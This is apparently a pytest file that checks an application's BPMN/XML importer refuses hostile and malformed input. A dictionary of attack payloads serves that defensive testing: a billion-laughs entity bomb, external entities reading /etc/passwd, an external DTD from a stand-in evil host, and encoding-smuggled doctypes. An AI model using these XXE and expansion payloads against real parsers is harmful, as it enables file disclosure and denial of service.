"""Hostile and broken XML is refused with a sentence; nothing it asks for is done."""

from __future__ import annotations

from pathlib import Path

import pytest

from app.exchange.bpmn import read_bpmn
from app.exchange.imported import import_file
from app.exchange.result import Report
from app.exchange.safexml import parse_xml
from app.model.errors import Refused
from tests.exchange.files import HEAD, bpmn_file

LAUGHS = '<!DOCTYPE definitions [<!ENTITY a "ha">' + "".join(
    f'<!ENTITY {name} "&{before};&{before};&{before};&{before};&{before};">'
    for before, name in zip("abcdefgh", "bcdefghi")
)

ATTACKS = {
    "billion laughs": (LAUGHS + "]><definitions>&i;</definitions>").encode(),
    "external entity": b'<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><definitions>&x;</definitions>',
    "external document type": b'<!DOCTYPE d SYSTEM "http://klarweg.example/evil.dtd"><definitions/>',
    "parameter entity": b'<!DOCTYPE d [<!ENTITY % p SYSTEM "file:///etc/passwd"> %p;]><definitions/>',
    "hidden in UTF-16": '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE d [<!ENTITY x "y">]><definitions/>'.encode(
        "utf-16"
    ),
    "hidden in UTF-16 without a mark": '<!DOCTYPE d [<!ENTITY x "y">]><definitions/>'.encode("utf-16-le"),
    "hidden in UTF-32": '<!DOCTYPE d [<!ENTITY x "y">]><definitions/>'.encode("utf-32"),
    "hidden in UTF-7": b'<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE d+AD4-<definitions/>',
    "100,000 deep": b"<a>" * 100_000 + b"</a>" * 100_000,
    "400 attributes": b"<definitions " + b" ".join(b'a%d="x"' % n for n in range(400)) + b"/>",
    "a name of ten million letters": b"<" + b"a" * 10_000_001 + b"/>",
    "a text of eleven million letters": b"<a>" + b"x" * 11_000_000 + b"</a>",
    "an entity that is not declared": b"<definitions>&nope;</definitions>",
    "nothing": b"",
    "blanks": b"   \n ",
    "not XML": b"PK\x03\x04 this is a zip file",
    "zeros": b"\0" * 1000,
}


@pytest.mark.parametrize("name", sorted(ATTACKS))
def test_hostile_xml_is_refused_with_a_sentence(name: str) -> None:
    with pytest.raises(Refused) as caught:
        read_bpmn(ATTACKS[name])

    assert "Nothing was imported." in str(caught.value)


@pytest.mark.parametrize(
    ("data", "line"),
    [
        (b"<a>\n<b>\n</a>", "Line 3"),
        (b"<a>\n\n<!DOCTYPE x>", "Line 3"),
        (b"<a>\n" + b"<b>\n" * 300 + b"</b>" * 300 + b"</a>", "Line 25"),
    ],
)
def test_a_refusal_names_the_line(data: bytes, line: str) -> None:
    with pytest.raises(Refused) as caught:
        read_bpmn(data)

    assert line in str(caught.value)


def test_a_document_type_in_a_comment_is_only_a_comment() -> None:
    data = bpmn_file(
        '<!-- <!DOCTYPE x> --><task id="a" name="A"/><documentation><![CDATA[<!ENTITY x>]]></documentation>'
    )

    imported = read_bpmn(data)

    assert [getattr(r, "name", "") for r in imported.records if r.id == "a"] == ["A"]


def test_more_than_two_million_elements_are_refused_before_they_are_built() -> None:
    with pytest.raises(Refused, match="more than 2000000 elements"):
        parse_xml(b"<a>" + b"<b/>" * 4_100_000 + b"</a>", Report())


def test_more_than_64_megabytes_are_refused() -> None:
    with pytest.raises(Refused, match="larger than 64 MB"):
        parse_xml(b" " * (64 * 2**20 + 1), Report())


def test_a_million_elements_are_refused_within_the_limits_of_the_child(tmp_path: Path) -> None:
    path = tmp_path / "million.bpmn"
    path.write_bytes(HEAD.encode() + b'<process id="P">' + b"<task/>" * 1_000_000 + b"</process></definitions>")

    with pytest.raises(Refused, match="Nothing was imported"):
        import_file(path)
